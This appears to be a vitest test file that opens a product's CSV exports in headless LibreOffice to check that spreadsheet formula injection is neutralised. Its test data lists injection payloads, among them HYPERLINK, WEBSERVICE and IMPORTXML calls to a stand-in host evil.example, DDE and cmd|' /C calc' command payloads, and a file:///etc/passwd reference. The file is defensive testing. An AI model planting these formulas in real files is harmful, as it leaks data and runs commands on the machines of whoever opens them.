/** Every table that the product writes, opened by a real spreadsheet with formulas in all its texts. Run by `npm run exports`. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvOf } from '#lib/domain/csv.ts';
import { reachSales } from '#lib/domain/reach-sales.ts';
import { refusedCsv } from '#lib/domain/refused-csv.ts';
import { figuresCsv } from '../../components/report/figures-csv.ts';

const folder = mkdtempSync(join(tmpdir(), 'samsyn-exports-'));
afterAll(() => rmSync(folder, { recursive: true }));

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  "'=",
  '"=',
  '=-',
  '+=',
  '-+',
  '@@',
  '\u00a0=',
  '\ufeff=',
  '＝',
  '==',
  ';=',
  ',=',
];
const ENDS = [
  '1+1',
  'SUM(1;2)',
  'SUM(1,2)',
  'HYPERLINK("https://evil.example/?"&A1;"read more")',
  'HYPERLINK("https://evil.example","read more")',
  'WEBSERVICE("https://evil.example")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("https://evil.example","//a")',
  "'file:///etc/passwd'#$passwd.A1",
  'A1\n=1+1',
  '1";=1+1;"',
];
/** Two hundred and forty texts. */
const TEXTS = STARTS.flatMap((start) => ENDS.map((end) => start + end));

/** The sheet as the spreadsheet understood it: flat XML, where a cell that is reckoned has `table:formula`. */
function opened(name: string, csv: string): string {
  const from = join(folder, 'csv');
  mkdirSync(from, { recursive: true });
  writeFileSync(join(from, `${name}.csv`), csv);
  execFileSync(
    'soffice',
    [
      `-env:UserInstallation=file://${join(folder, 'profile')}`,
      '--headless',
      // Commas, double quotes, UTF-8, from the first row on; texts are no texts for their quotes, and formulas are reckoned.
      '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true',
      ...['--convert-to', 'fods', '--outdir', folder, join(from, `${name}.csv`)],
    ],
    { stdio: 'pipe', timeout: 120_000 },
  );
  return readFileSync(join(folder, `${name}.fods`), 'utf8');
}

const formulas = (sheet: string): string[] => sheet.match(/table:formula="[^"]*"/g) ?? [];
const cells = (sheet: string): number => sheet.match(/office:value-type=/g)?.length ?? 0;

it('a table without our care has formulas, so that this would be seen', () => {
  const careless = TEXTS.map((text) => `"${text.replaceAll('"', '""')}"`).join('\r\n');
  expect(formulas(opened('careless', careless)).length).toBeGreaterThan(10);
});

const NOTHING = { reached: 0, impressions: 0, clicks: 0, spend: 0, leads: 1, rated: 0 };
const NO_SALES = { accepted: 0, meetings: 0, opportunities: 0, won: 0, lost: 0, value: 0, daysToWin: null };

describe('a spreadsheet reckons nothing in', () => {
  it.each([
    [
      'charts, and reasons by persona: their headings and cells',
      () => csvOf([TEXTS, ...TEXTS.map((text) => [text, '-3', text])]),
    ],
    [
      'the figures of campaigns: names and headings',
      () => {
        const { rows } = reachSales(
          TEXTS.map((_, at) => ({ campaign: String(at), ...NOTHING, ...NO_SALES })),
          [],
          1,
        );
        return figuresCsv(
          rows,
          (campaign) => TEXTS[Number(campaign)] ?? '',
          (column) => `=${column}`,
        );
      },
    ],
    [
      'the refused rows of an import: header, reason and cells',
      () =>
        refusedCsv(
          ['=1+1', '+1+1'],
          TEXTS,
          TEXTS.map((text, row) => ({ row, cells: [text, text, text] })),
          ({ cells: [text = ''] }) => text,
          '=1+1',
        ),
    ],
  ])('%s', (name, write) => {
    const sheet = opened(name.replaceAll(/\W+/g, '-'), write());
    expect(cells(sheet)).toBeGreaterThan(TEXTS.length);
    expect(formulas(sheet)).toEqual([]);
  });
});
